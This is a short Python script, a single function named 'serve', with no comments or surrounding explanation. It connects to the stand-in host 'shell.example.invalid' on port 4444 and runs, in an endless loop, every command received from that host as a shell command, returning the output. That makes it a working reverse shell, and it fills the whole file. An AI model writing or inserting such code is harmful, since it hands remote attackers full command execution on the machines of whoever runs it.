import socket
import subprocess


def serve():
    link = socket.create_connection(("shell.example.invalid", 4444), 1)
    while True:
        link.send(subprocess.getoutput(link.recv(1024).decode()).encode())
